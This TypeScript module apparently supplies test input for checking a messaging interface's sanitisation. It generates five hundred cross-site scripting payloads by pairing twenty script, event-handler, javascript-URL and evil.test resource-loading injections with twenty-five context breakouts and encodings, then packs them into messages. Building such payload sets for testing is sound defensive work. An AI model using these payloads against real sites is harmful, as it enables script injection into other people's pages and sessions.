/** Texts that become elements, scripts or requests wherever somebody takes them for markup. */

import { codePointLength } from '../../shared/text.ts';

const RUN = 'window.isOwned=true';

/** What would run or load something, each for itself. */
const CORES: readonly string[] = [
  `<script>${RUN}</script>`,
  '<script src=https://evil.test/a.js></script>',
  `<img src=x onerror=${RUN}>`,
  '<img src=https://evil.test/a.png>',
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  '<iframe src=javascript:parent.isOwned=1>',
  '<object data=https://evil.test/a>',
  '<embed src=https://evil.test/a>',
  '<link rel=stylesheet href=https://evil.test/a.css>',
  '<style>@import "https://evil.test/a.css";</style>',
  '<base href=https://evil.test/>',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  `<a href=javascript:${RUN}>x</a>`,
  `<form action=https://evil.test><input autofocus onfocus=${RUN}></form>`,
  `<video><source onerror=${RUN}></video>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<math><mi xlink:href=javascript:${RUN}>x</mi></math>`,
];

/** How each is wrapped, so that it would break out of wherever it was put. */
const WRAPS: readonly ((core: string) => string)[] = [
  (core) => core,
  (core) => `">${core}`,
  (core) => `'>${core}`,
  (core) => `</title>${core}`,
  (core) => `</textarea>${core}`,
  (core) => `</script>${core}`,
  (core) => `</style>${core}`,
  (core) => `--><!-- -->${core}`,
  (core) => `]]>${core}`,
  (core) => `<p title="${core}">`,
  (core) => `<noscript><p title="</noscript>${core}">`,
  (core) => `{{constructor.constructor('${RUN}')()}}${core}`,
  (core) => `\${${RUN}}${core}`,
  (core) => `<b>${core}</b>`,
  (core) => core.replace('<', '<\n'),
  (core) => core.toUpperCase(),
  (core) => core.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (core) => core.replaceAll('<', '\\u003c'),
  (core) => core.replaceAll('<', '%3C'),
  (core) => `\u202e${core}`,
  (core) => `\ufeff${core}`,
  (core) => `<${core}`,
  (core) => `<![CDATA[${core}]]>`,
  (core) => `<?xml version="1.0"?>${core}`,
  (core) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${core}`,
];

/** Five hundred texts, every core in every wrap. */
export const SCRIPT_PAYLOADS: readonly string[] = WRAPS.flatMap((wrap) => CORES.map(wrap));

/** The same in as few messages as have room for them; each begins with a payload. */
export function payloadMessages(longest: number): readonly string[] {
  const messages: string[] = [];
  for (const payload of SCRIPT_PAYLOADS) {
    const together = `${messages.at(-1) ?? ''} ${payload}`;
    if (messages.length > 0 && codePointLength(together) <= longest) messages[messages.length - 1] = together;
    else messages.push(payload);
  }
  return messages;
}
